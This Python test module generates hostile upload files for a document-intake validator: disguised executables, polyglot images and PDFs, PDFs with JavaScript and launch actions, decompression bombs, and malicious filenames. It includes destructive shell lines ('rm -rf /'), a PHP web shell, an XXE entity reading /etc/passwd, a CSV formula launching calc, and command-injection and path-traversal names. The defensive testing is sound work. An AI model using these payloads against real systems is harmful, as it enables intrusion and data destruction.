"""More than two hundred files no court should swallow, made by algorithm at test time.

Each is a name, bytes, and what may become of it: ``REFUSED`` must be refused; ``EITHER`` may be
taken in, if what others see is clean.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.dossier import good_files
from tests.dossier.good_files import document, exif, photo, saved

REFUSED, EITHER = "REFUSED", "EITHER"
SCRIPT = b"<script>alert(document.domain)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EICAR = (
    b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
)


@dataclass(frozen=True)
class Hostile:
    """One file. ``needs_process`` bursts memory or time and is opened in a real process."""

    id: str
    name: str
    content: bytes
    outcome: str = REFUSED
    needs_process: bool = False


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


DISGUISED = {
    "windows program": b"MZ\x90\0" + bytes(200), "linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
    "mac program": b"\xcf\xfa\xed\xfe" + bytes(200), "java class": b"\xca\xfe\xba\xbe" + bytes(90),
    "shell script": b"#!/bin/sh\nrm -rf /\n", "batch": b"@echo off\r\ndel *.*\r\n",
    "powershell": b"Invoke-Expression 'calc'\r\n", "web page": PAGE,
    "web page late": b"\n" * 500 + PAGE, "web page wide": PAGE.decode().encode("utf-16"),
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT,
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "server page": b"<?php system($_GET['c']); ?>", "script": b"fetch('/accounts/').then(alert)",
    "rich text": b"{\\rtf1\\object\\objocx}", "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "archive": zipped(**{"a.txt": b"a"}), "rar": b"Rar!\x1a\x07\x01\0" + bytes(60),
    "seven zip": b"7z\xbc\xaf\x27\x1c" + bytes(60), "gzip": b"\x1f\x8b\x08\0" + bytes(60),
    "gif with code": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1);//", "bitmap": b"BM" + bytes(100),
    "icon": b"\0\0\1\0" + bytes(60), "heic": b"\0\0\0\x18ftypheic" + bytes(60),
    "avif": b"\0\0\0\x18ftypavif" + bytes(60), "flash": b"CWS\x0a" + bytes(60),
    "postscript": b"%!PS-Adobe-3.0\n(x) run\n", "csv formula": b"=cmd|'/c calc'!A1,1\n",
    "mail": b"From: a@b.invalid\nContent-Type: text/html\n\n" + PAGE,
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60), "database": b"SQLite format 3\0" + bytes(60),
    "font": b"\0\1\0\0\0\x0c" + bytes(60), "wasm": b"\0asm\1\0\0\0", "eicar": EICAR,
    "eicar zipped": zipped(**{"eicar.com": EICAR}), "nothing but noughts": bytes(5000),
    "one byte": b"%", "letters": "借条".encode() * 40, "letters gbk": "借条".encode("gbk") * 40,
    "word file": zipped(**{"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}),
    "sheet with macro": zipped(**{"[Content_Types].xml": b"<a/>", "xl/vbaProject.bin": b"x"}),
    "layout file": zipped(**{"OFD.xml": b"<a/>"}), "app": zipped(**{"AndroidManifest.xml": b"x"}),
    "late pdf": b"\n" * 100 + document(1), "pdf without head": document(1)[9:],
}


def disguised() -> Iterator[Hostile]:
    for id, content in DISGUISED.items():
        for name in ("evidence.pdf", "photo.jpg"):
            yield Hostile(f"{id} as {name}", name, content)


# -- Two kinds in one --------------------------------------------------------------------------


def png_with(chunk: bytes, body: bytes) -> bytes:
    content = saved(photo(40, 40), "PNG")
    extra = struct.pack(">I", len(body)) + chunk + body
    return content[:33] + extra + struct.pack(">I", zlib.crc32(chunk + body)) + content[33:]


def jpeg_with(body: bytes, mark: int = 0xFE) -> bytes:
    content = saved(photo(40, 40), "JPEG")
    return content[:2] + bytes((0xFF, mark)) + struct.pack(">H", len(body) + 2) + body + content[2:]


def polyglots() -> Iterator[Hostile]:
    jpeg, png, pdf = saved(photo(), "JPEG"), saved(photo(), "PNG"), document(2)
    webp, tiff = saved(photo(), "WEBP"), saved(photo(), "TIFF")
    archive = zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: X", "x.class": b"x"})
    for name, content in (
        ("p.jpg", jpeg), ("p.png", png), ("p.pdf", pdf), ("p.webp", webp), ("p.tif", tiff),
        ("p.mp4", good_files.boxes(b"isom")), ("p.mp3", good_files.mp3()),
        ("p.wav", good_files.sound()),
    ):
        yield Hostile(f"{name} and an archive", name, content + archive)
        yield Hostile(f"{name} and a page", name, content + PAGE)
    yield Hostile("pdf and a program", "p.pdf", pdf + b"MZ\x90\0" + bytes(2000))
    yield Hostile("pdf that begins as a page", "p.pdf", pdf[:9] + b"%" + PAGE + b"\n" + pdf[9:])
    yield Hostile("png with a page in its text", "p.png", png_with(b"tEXt", b"Comment\0" + PAGE))
    yield Hostile("png with a server page", "p.png", png_with(b"iTXt", b"<?php system(1);?>"))
    yield Hostile("jpeg with a page in its comment", "p.jpg", jpeg_with(PAGE))
    yield Hostile("jpeg with a script in its maker's note", "p.jpg", jpeg_with(SCRIPT, 0xEC))
    yield Hostile("jpeg and pdf", "p.jpg", jpeg_with(b"%PDF-1.4\n1 0 obj"))
    tags = Image.Exif()
    tags[0x010E] = SCRIPT.decode()
    yield Hostile("photo titled with a script", "p.jpg", saved(photo(), "JPEG", exif=tags.tobytes()))


# -- Documents that act ------------------------------------------------------------------------

NAME, DICT = pikepdf.Name, pikepdf.Dictionary


def javascript() -> pikepdf.Dictionary:
    return DICT(S=NAME.JavaScript, JS="app.alert(1)")


def acting(**root) -> bytes:
    return document(1, change=lambda pdf: [pdf.Root.__setitem__(f"/{k}", v) for k, v in root.items()])


def with_annotation(**words) -> bytes:
    def change(pdf):
        note = pdf.make_indirect(DICT(Type=NAME.Annot, Rect=[10, 10, 200, 200], **words))
        pdf.pages[0].obj.Annots = pikepdf.Array([note])
        if words["Subtype"] == NAME.Widget:
            pdf.Root.AcroForm = DICT(Fields=pikepdf.Array([note]))

    return document(1, change=change)


def with_attachment(name: str, body: bytes) -> bytes:
    def change(pdf):
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, body, filename=name)

    return document(1, change=change)


def acting_documents() -> Iterator[Hostile]:
    files = {
        "script on opening": acting(OpenAction=javascript()),
        "script by name": acting(Names=DICT(JavaScript=DICT(Names=["x", javascript()]))),
        "script on closing": acting(AA=DICT(WC=javascript())),
        "script on a page": document(
            1, change=lambda pdf: pdf.pages[0].obj.__setitem__("/AA", DICT(O=javascript()))
        ),
        "script behind a link": acting(
            OpenAction=DICT(S=NAME.GoTo, D="x", Next=pikepdf.Array([javascript()]))
        ),
        "script in a note": with_annotation(Subtype=NAME.Link, A=javascript()),
        "script in a field": with_annotation(
            Subtype=NAME.Widget, FT=NAME.Tx, T="a", AA=DICT(K=javascript())
        ),
        "launch": acting(OpenAction=DICT(S=NAME.Launch, F="cmd.exe")),
        "launch behind a link": with_annotation(
            Subtype=NAME.Link, A=DICT(S=NAME.Launch, Win=DICT(F="calc.exe"))
        ),
        "sends itself": with_annotation(
            Subtype=NAME.Link, A=DICT(S=NAME.SubmitForm, F="http://x.invalid/")
        ),
        "imports": acting(OpenAction=DICT(S=NAME.ImportData, F="x.fdf")),
        "goes into a file inside": acting(OpenAction=DICT(S=NAME.GoToE, D="x", T=DICT(R=NAME.C))),
        "plays": with_annotation(Subtype=NAME.Screen, A=DICT(S=NAME.Rendition, JS="x()")),
        "rich media": with_annotation(Subtype=NAME.RichMedia, RichMediaContent=DICT()),
        "movie": with_annotation(Subtype=NAME.Movie, Movie=DICT(F="a.avi")),
        "model": with_annotation(Subtype=NAME("/3D")),
        "dynamic form": acting(AcroForm=DICT(Fields=[], XFA="<xdp/>")),
        "program inside": with_attachment("tool.exe", b"MZ\x90\0"),
        "program inside named text": with_attachment("tool.txt", b"MZ\x90\0" + bytes(9)),
        "page inside named data": with_attachment("data.xml", PAGE),
        "word file inside": with_attachment("brief.docm", zipped(a=b"a")),
        "document inside": with_attachment("more.pdf", document(1)),
    }
    for id, content in files.items():
        yield Hostile(f"pdf: {id}", "brief.pdf", content)
        packed = io.BytesIO()
        with pikepdf.open(io.BytesIO(content)) as pdf:
            pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield Hostile(f"pdf, packed: {id}", "brief.pdf", packed.getvalue())
    yield Hostile("pdf: script nobody points to", "brief.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    ))
    hidden = acting(OpenAction=javascript()).replace(b"/JavaScript", b"/J#61v#61Scr#69pt")
    yield Hostile("pdf: script with a name in figures", "brief.pdf", hidden)
    for revision, aes in ((2, False), (4, True), (6, True)):
        lock = pikepdf.Encryption(owner="o", user="u", R=revision, aes=aes, metadata=aes)
        yield Hostile(f"pdf locked r{revision}", "l.pdf", document(1, encryption=lock))


# -- What bursts -------------------------------------------------------------------------------


def png_claiming(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    body = zlib.compress(bytes(10_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, so that it can say what no library would."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def stream(body: bytes, words: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), words, body)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def one_page(contents: bytes) -> bytes:
    return raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>", contents,
    )


def bursting() -> Iterator[Hostile]:
    for width, height in ((50_000, 50_000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1), (20_000, 20_000)):
        yield Hostile(f"png {width}x{height}", "p.png", png_claiming(width, height))
    jpeg = saved(photo(32, 32), "JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    yield Hostile("jpeg flood", "p.jpg", jpeg[:at] + b"\xff\xdc\xff\xdc" + jpeg[at + 4:])
    flood = saved(Image.new("1", (40_000, 40_000)), "TIFF", compression="group4")
    yield Hostile("tiff flood", "p.tif", flood)
    thousand = saved(
        Image.new("1", (8, 8)), "TIFF", save_all=True, append_images=[Image.new("1", (8, 8))] * 300
    )
    yield Hostile("tiff of 301 pages", "p.tif", thousand)
    yield Hostile("pdf of a billion pages", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ))
    yield Hostile("pdf of 2001 pages", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [%s] /Count 2001 >>" % (b"3 0 R " * 2001),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ))
    yield Hostile("pdf whose pages are their own parents", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ))
    yield Hostile("pdf whose pages go round", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ))
    yield Hostile("pdf without pages", "p.pdf", raw_pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"))
    yield Hostile("pdf of brackets", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"[" * 60_000 + b"]" * 60_000,
    ), EITHER, needs_process=True)
    yield Hostile("pdf with an endless picture", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /XObject << /I 4 0 R >> >> >>",
        stream(b"x", b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000"
                     b" /ColorSpace /DeviceRGB /BitsPerComponent 8"),
    ))
    looped = raw_pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>")
    start = looped.rindex(b"startxref") + 10
    own = looped[start : looped.index(b"\n", start)]
    yield Hostile("pdf whose tables go round", "p.pdf", looped.replace(
        b"/Root 1 0 R >>", b"/Root 1 0 R /Prev " + own + b" >>"
    ))
    once = zlib.compress(bytes(40_000_000), 9)
    twice = zlib.compress(once, 9)
    yield Hostile("pdf with a bomb in its page", "p.pdf", one_page(
        stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    ), EITHER, needs_process=True)
    forms = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /XObject << /X 5 0 R >> >> >>", stream(b"/X Do " * 9),
    ]
    for level in range(5, 14):
        words = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
        forms.append(stream(b"/X Do " * 12, words % (level + 1)))
    forms.append(stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"))
    yield Hostile("pdf of a billion laughs", "p.pdf", raw_pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *forms
    ), EITHER, needs_process=True)


# -- What is broken ----------------------------------------------------------------------------

WHOLE = {
    "a.pdf": document(3), "a.jpg": saved(photo(), "JPEG"), "a.png": saved(photo(), "PNG"),
    "a.webp": saved(photo(), "WEBP"), "a.tif": saved(photo(mode="1"), "TIFF", compression="group4"),
    "a.mp4": good_files.boxes(b"isom"), "a.m4a": good_files.boxes(b"M4A "),
    "a.wav": good_files.sound(), "a.mp3": good_files.mp3(3),
}


def broken() -> Iterator[Hostile]:
    for name, content in WHOLE.items():
        for share in (5, 30, 60, 90):
            cut = content[: max(16, len(content) * share // 100)]
            outcome = EITHER if name in ("a.mp3", "a.tif", "a.wav") else REFUSED
            yield Hostile(f"{name} cut at {share}%", name, cut, outcome)
        yield Hostile(f"{name} one byte short", name, content[:-1], EITHER)
    chance = random.Random(2026)
    for name, content in WHOLE.items():
        for number in range(6):
            spoilt = bytearray(content)
            for _ in range(max(3, len(spoilt) // 400)):
                spoilt[chance.randrange(12, len(spoilt))] = chance.randrange(256)
            yield Hostile(f"{name} spoilt {number}", name, bytes(spoilt), EITHER)


# -- Names -------------------------------------------------------------------------------------

NAMES = (
    "../../../etc/passwd.png", "..\\..\\windows\\system32\\a.png", "/etc/shadow.png",
    "\\\\server\\share\\a.png", "C:\\a.png", "a.png\0.exe", "a\r\nSet-Cookie: x=1.png",
    "\u202egnp.exe", "in\u200bvoice.png", "\ufeffa.png", "CON.png", "NUL", "aux.txt", "com1.png",
    ".htaccess", "..", ".", "   ", "a.png.exe", "a.exe", "a.php.png", "<script>alert(1)</script>.png",
    "a\"; filename=\"evil.html", "%2e%2e%2fa.png", "$(reboot).png", "`id`.png", "a;b|c&d.png",
    "{{ 7*7 }}.png", "{% debug %}.png", "' OR 1=1 --.png", "a" * 255 + ".png", "证" * 86 + ".png",
    "a.png. . .", "\u0000\u0001\u0002.png", "𝒶𝓁ℯ𝓇𝓉.png", "a\u0301\u0302\u0303.png", "=1+1.png",
    "\u2066a\u2069.png", "\U000e0041.png", "a\tb.png", "\x7f.png",
)


def misnamed() -> Iterator[Hostile]:
    content = saved(photo(48, 48), "PNG")
    for number, name in enumerate(NAMES):
        yield Hostile(f"name {number}", name, content, EITHER)


def every() -> list[Hostile]:
    return [
        *disguised(), *polyglots(), *acting_documents(), *bursting(), *broken(), *misnamed(),
        Hostile("empty", "empty.pdf", b""),
    ]


__all__ = ["EITHER", "REFUSED", "Hostile", "every", "exif"]
